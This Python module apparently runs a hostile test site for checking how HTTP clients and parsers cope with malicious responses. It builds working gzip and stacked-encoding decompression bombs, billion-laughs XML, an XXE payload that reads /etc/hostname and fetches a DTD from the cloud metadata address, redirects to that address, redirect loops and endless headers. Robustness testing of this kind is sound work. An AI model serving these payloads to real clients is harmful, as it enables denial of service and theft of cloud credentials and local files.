"""Answers that try to harm their reader. They are sent in pieces, so that the site itself needs little memory.

    answer(kind, address, over) sets bottle's response and returns its body

Bombs are compressed once. Endless answers stop when the client disconnects or the site stops.
"""

import gzip
import threading
import zlib
from collections.abc import Callable, Iterator
from functools import cache
from typing import Any, Final

import bottle

PIECE_BYTES: Final = 1_048_576
BOMB_PIECES: Final = 1_024  # a gigabyte of blanks, compressed to a megabyte
STACKED: Final = 8  # nested codings
NODES: Final = 1_000_000
NESTED: Final = 200_000
ATTRIBUTES: Final = 200_000  # on one element
LAUGHS: Final = 10  # each entity is ten of the one before it: ten thousand million at the end
HEADERS_BYTES_MAX: Final = 1_000_000_000  # if a client reads them all
LINK_LOCAL: Final = "http://169.254.169.254/latest/meta-data/"

_PAGE: Final = b"<!DOCTYPE html><body>"

Pieces = Iterator[bytes]


def answer(kind: str, address: str, over: threading.Event) -> Pieces:
    """The hostile answer of a kind; ``address`` is the path and query of the request."""
    response = bottle.response
    if kind == "headers":
        return _endless_headers(bottle.request.environ["site.request"], over)
    if kind in ("redirect_loop", "redirect_private"):
        response.status = 302
        response.set_header("Location", _further(address) if kind == "redirect_loop" else LINK_LOCAL)
        return iter((b"moved",))
    content_type, coding, pieces = _BODIES[kind]
    response.content_type = content_type
    if coding:
        response.set_header("Content-Encoding", coding)
    return pieces()


def filled(body: bytes, size: int, over: threading.Event) -> Pieces:
    """A page filled up with blanks to ``size`` bytes."""
    yield body[:size]
    blanks = b" " * PIECE_BYTES
    for left in range(size - len(body), 0, -PIECE_BYTES):
        if over.is_set():
            return
        yield blanks[:left]


def _further(address: str) -> str:
    """The next hop of a redirect loop, a new URL each time: without ``/{host}``, as the origin itself would give it."""
    path, _, hop = ("/" + address.split("/", 2)[2]).partition("?hop=")
    return f"{path}?hop={int(hop) + 1 if hop.isdigit() else 1}"


def _endless_headers(request: Any, over: threading.Event) -> Pieces:
    """A body that cheroot sends in place of a request's headers; the connection is closed afterwards."""
    request.send_headers = lambda: None
    request.close_connection = True
    yield b"HTTP/1.1 200 OK\r\n"
    line = b"X-Filler: " + b"x" * 1_000 + b"\r\n"
    for _ in range(HEADERS_BYTES_MAX // len(line)):
        if over.is_set():
            return
        yield line


def _attributes() -> Pieces:
    """A tag with very many attributes."""
    yield _PAGE + b"<p "
    for first in range(0, ATTRIBUTES, 10_000):
        yield b"".join(b"a%d=1 " % number for number in range(first, first + 10_000))
    yield b">x</p>"


def _repeated(head: bytes, each: bytes, count: int) -> Pieces:
    """``each`` repeated ``count`` times, in pieces of about PIECE_BYTES."""
    yield head
    at_once = max(PIECE_BYTES // len(each), 1)
    for left in range(count, 0, -at_once):
        yield each * min(left, at_once)


@cache
def _bomb() -> bytes:
    """A gzip member made of a thousand equal blocks. The first was flushed completely, so that each stands alone."""
    piece = b" " * PIECE_BYTES
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    block = packer.compress(piece) + packer.flush(zlib.Z_FULL_FLUSH)
    check = 0
    for _ in range(BOMB_PIECES):
        check = zlib.crc32(piece, check)
    size = BOMB_PIECES * PIECE_BYTES & 0xFFFFFFFF
    head = b"\x1f\x8b\x08\0\0\0\0\0\x02\xff"
    return head + block * BOMB_PIECES + packer.flush() + check.to_bytes(4, "little") + size.to_bytes(4, "little")


@cache
def _bomb_in_gzip() -> bytes:
    """The bomb, compressed once more: a gigabyte in a few kilobytes."""
    return gzip.compress(_bomb(), mtime=0)


@cache
def _stacked() -> bytes:
    body = b"<p>all this for one line</p>"
    for _ in range(STACKED):
        body = gzip.compress(body, mtime=0)
    return body


def _entities() -> bytes:
    """The billion laughs attack."""
    lines = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, LAUGHS + 1))
    return f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY l0 "ha">{lines}]><a>&l{LAUGHS};</a>'.encode()


_EXTERNAL: Final = b"""<?xml version="1.0"?>
<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hostname"><!ENTITY % y SYSTEM "http://169.254.169.254/evil.dtd">%y;]>
<a>&x;</a>
"""
_HTML: Final = "text/html; charset=utf-8"
# Content-Type, Content-Encoding, and the function that makes the body.
_BODIES: Final[dict[str, tuple[str, str, Callable[[], Pieces]]]] = {
    "gzip_bomb": (_HTML, "gzip", lambda: iter((_bomb(),))),
    "stacked_bomb": (_HTML, "gzip, gzip", lambda: iter((_bomb_in_gzip(),))),
    "stacked": (_HTML, ", ".join(["gzip"] * STACKED), lambda: iter((_stacked(),))),
    "nodes": (_HTML, "", lambda: _repeated(_PAGE, b"<i></i>", NODES)),
    "nesting": (_HTML, "", lambda: _repeated(_PAGE, b"<div>", NESTED)),
    "json_nesting": ("application/json", "", lambda: _repeated(b"", b"[", NESTED)),
    "attributes": (_HTML, "", _attributes),
    "entities": ("text/xml", "", lambda: iter((_entities(),))),
    "external_entity": ("text/xml", "", lambda: iter((_EXTERNAL,))),
}
KINDS: Final = (*_BODIES, "headers", "redirect_loop", "redirect_private")
